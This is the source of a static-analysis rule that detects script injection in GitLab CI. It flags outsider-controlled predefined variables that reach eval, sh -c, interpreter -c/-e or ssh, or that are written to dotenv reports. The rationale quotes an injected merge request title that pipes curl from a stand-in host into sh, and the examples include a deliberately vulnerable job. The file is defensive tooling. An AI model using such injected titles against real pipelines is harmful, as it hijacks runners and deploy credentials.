import { seqItems, stringValue } from '../../model/yaml.js';
import { defineRule } from '../rule.js';
import { gitlabJobs, type GitlabJob } from './gitlab-model.js';
import { field } from './workflow-model.js';

/**
 * Predefined variables whose text whoever opens a merge request or pushes a branch writes: titles,
 * descriptions, commit messages, author names, branch names. `*_SLUG`, SHAs and IDs are safe.
 */
const OUTSIDER_VARIABLES = [
  'CI_MERGE_REQUEST_TITLE', 'CI_MERGE_REQUEST_DESCRIPTION', 'CI_MERGE_REQUEST_SOURCE_BRANCH_NAME', 'CI_MERGE_REQUEST_LABELS',
  'CI_MERGE_REQUEST_SOURCE_PROJECT_PATH', 'CI_COMMIT_MESSAGE', 'CI_COMMIT_TITLE', 'CI_COMMIT_DESCRIPTION', 'CI_COMMIT_AUTHOR',
  'CI_COMMIT_BRANCH', 'CI_COMMIT_REF_NAME', 'CI_COMMIT_TAG_MESSAGE', 'CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME',
  'CI_EXTERNAL_PULL_REQUEST_TARGET_BRANCH_NAME',
];
const VARIABLE = new RegExp(String.raw`\$\{?(${OUTSIDER_VARIABLES.join('|')})\b\}?`, 'g');

/** Commands that parse their argument as code again: the value becomes part of a program. */
const REPARSE: ReadonlyArray<{ readonly pattern: RegExp; readonly what: string }> = [
  { pattern: /(?:^|[\s;&|(])eval\s+(.*)$/, what: '`eval`' },
  { pattern: /(?:^|[\s;&|(])(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-c\s+(.*)$/, what: 'a `sh -c` command string' },
  { pattern: /(?:^|[\s;&|(])(?:python[\d.]*|node|perl|ruby|php)\s+(?:-\w+\s+)*-[ce]\s+(.*)$/, what: 'inline interpreter code' },
  { pattern: /(?:^|[\s;&|(])pwsh\s+(?:-\w+\s+)*-(?:c|Command)\s+(.*)$/i, what: 'a PowerShell command string' },
  { pattern: /(?:^|[\s;&|(])ssh\s+(?:-\w+\s+(?:\S+\s+)?)*[\w.@$-]+\s+(.*)$/, what: 'a remote `ssh` command' },
];

export default defineRule({
  id: 'gitlab-script-injection',
  layer: 'repository',
  severity: 'high',
  objectKinds: [],
  summary: 'A GitLab CI script hands a merge request title, commit message or branch name to `eval`, `sh -c`, inline interpreter code or `ssh`, or writes it to a dotenv report.',
  rationale:
    'GitLab passes predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` is safe: ' +
    'the shell substitutes the text and does not read it as code. It becomes code when a command parses it again: ' +
    '`eval`, `sh -c "… $CI_MERGE_REQUEST_TITLE"`, `python -c`, `node -e`, or a command line sent over `ssh`. A title ' +
    'such as `x"; curl evil.sh | sh; "` then runs with the job\'s variables, deploy credentials and runner. Written ' +
    'to a file that `artifacts: reports: dotenv` publishes, a newline in the text adds variables of its own to every ' +
    'later job. Branch names may hold `$(…)`, `;` and backticks; titles, descriptions and commit messages hold anything. ' +
    '`$CI_COMMIT_REF_SLUG`, SHAs and IDs are safe and not reported; single-quoted `sh -c \'… $VAR\'` is safe too.',
  remediation:
    'Pass the text as data: reference the variable inside single quotes of the inner command (`sh -c \'echo "$CI_COMMIT_MESSAGE"\'`), ' +
    'or as an argument (`python script.py "$CI_MERGE_REQUEST_TITLE"`), never inside code that is parsed again. Use ' +
    '`$CI_COMMIT_REF_SLUG` for branch names, and validate values before writing them to a dotenv report.',
  references: [
    'https://docs.gitlab.com/ci/variables/predefined_variables/',
    'https://docs.gitlab.com/ci/yaml/artifacts_reports/#artifactsreportsdotenv',
    'https://docs.gitlab.com/ci/pipelines/merge_request_pipelines/#use-with-forked-projects',
  ],
  messages: {
    reparse: 'Job {job} puts ${variable} into {what}: whoever writes the {source} runs commands in this job.',
    dotenv: 'Job {job} writes ${variable} to {file}, a dotenv report: a newline in the {source} sets variables for later jobs.',
  },
  examples: {
    bad: [{ file: '.gitlab-ci.yml', code: 'notify:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == "merge_request_event"\n  script:\n    - sh -c "notify --title \'$CI_MERGE_REQUEST_TITLE\'" # expect: gitlab-script-injection\n' }],
    good: [{ file: '.gitlab-ci.yml', code: 'notify:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == "merge_request_event"\n  script:\n    - notify --title "$CI_MERGE_REQUEST_TITLE"\n    - sh -c \'notify --title "$CI_MERGE_REQUEST_TITLE"\'\n' }],
  },
  check(context) {
    for (const job of gitlabJobs(context.workspace)) {
      const dotenvFiles = dotenvReports(job);
      for (const line of job.scripts) {
        const code = stripComment(line.text);
        for (const reference of code.matchAll(VARIABLE)) {
          const variable = reference[1]!;
          const index = reference.index!;
          const at = { path: job.document.file.path, start: line.start + index, end: line.start + index + reference[0].length };
          const data = { job: job.name, variable, source: sourceOf(variable) };
          const reparse = reparsedBy(code, index);
          if (reparse) {
            context.report({ messageId: 'reparse', at, data: { ...data, what: reparse }, subject: `${job.name} ${variable} ${reparse}` });
            continue;
          }
          const file = dotenvFiles.find((name) => writesTo(code, index, name));
          if (file) context.report({ messageId: 'dotenv', at, data: { ...data, file }, subject: `${job.name} ${variable} dotenv` });
        }
      }
    }
  },
});

function sourceOf(variable: string): string {
  if (/^CI_COMMIT_(MESSAGE|TITLE|DESCRIPTION|AUTHOR)$/.test(variable)) return 'commit';
  if (variable === 'CI_COMMIT_TAG_MESSAGE') return 'tag message';
  if (/TITLE|DESCRIPTION|LABELS/.test(variable)) return 'merge request';
  if (/PROJECT_PATH/.test(variable)) return 'fork\'s path';
  return 'branch name';
}

/** The re-parsing command a reference at `index` is an argument of, unless single quotes keep it a variable. */
function reparsedBy(code: string, index: number): string | undefined {
  const before = code.slice(0, index);
  for (const { pattern, what } of REPARSE) {
    const match = pattern.exec(before + code.slice(index));
    if (!match || match.index > index) continue;
    const argumentStart = match.index + match[0].length - (match[1]?.length ?? 0);
    if (argumentStart > index) continue;
    if (insideSingleQuotes(code.slice(argumentStart, index))) continue;
    return what;
  }
  return undefined;
}

/** Whether the text before a point leaves an unclosed single quote (outside double quotes). */
function insideSingleQuotes(text: string): boolean {
  let single = false;
  let double = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (char === '\\' && !single) index += 1;
    else if (char === "'" && !double) single = !single;
    else if (char === '"' && !single) double = !double;
  }
  return single;
}

function stripComment(text: string): string {
  return text.replace(/(^|\s)#(?![{]).*$/, '$1');
}

/** `artifacts: reports: dotenv:` files of the job. */
function dotenvReports(job: GitlabJob): string[] {
  const dotenv = field(job.document, field(job.document, job.get('artifacts'), 'reports'), 'dotenv');
  const single = stringValue(dotenv);
  return single !== undefined ? [single] : seqItems(dotenv).map((item) => stringValue(item)).filter((name): name is string => name !== undefined);
}

function writesTo(code: string, index: number, file: string): boolean {
  const after = code.slice(index);
  const escaped = file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  return new RegExp(String.raw`(>>?|\btee\s+(-a\s+)?)\s*["']?(\./)?${escaped}["']?(\s|$)`).test(after);
}

